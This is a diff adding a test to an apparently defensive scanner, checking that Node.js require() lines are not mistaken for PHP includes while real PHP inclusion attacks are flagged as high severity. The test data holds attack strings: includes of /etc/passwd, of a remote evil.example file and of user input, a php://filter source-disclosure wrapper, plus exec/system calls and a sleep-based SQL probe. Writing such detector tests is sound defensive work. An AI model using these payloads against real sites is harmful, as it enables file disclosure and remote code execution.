@@ -331,3 +331,18 @@ def test_manual_page_references_are_no_calls():
         assert hit(value) is None, value
     assert hit("exec($cmd)").severity >= Severity.HIGH and hit("system('id')").severity >= Severity.HIGH
     assert hit("1 and sleep(5)") is not None  # a delay's number is the probe itself
+
+
+def test_node_require_is_no_include():
+    """Node's module loader in a README's code block: a built-in (`node:` prefix), or the value
+    of a JavaScript declaration, which PHP cannot parse. PHP's includes stay calls."""
+    for value in ("const { Buffer } = require('node:buffer');\nconst buf = Buffer.from('x');",
+                  "const dns = require('node:dns');", "let mod = require('./mod.js');\nmod.hello();",
+                  "require('node:fs').readFileSync", "var x = require(\"lodash\");"):
+        h = hit(value, "json")
+        assert h is None or h.rule != "php.function-call", (value, h)
+    for value in ("$m = require('/etc/passwd');", "require('http://evil.example/x.txt');",
+                  "const a = require($_GET['f']);", "<?php require('shell.php'); ?>",
+                  "x=require('php://filter/convert.base64-encode/resource=index.php')"):
+        h = hit(value)
+        assert h is not None and h.severity >= Severity.HIGH, (value, h)
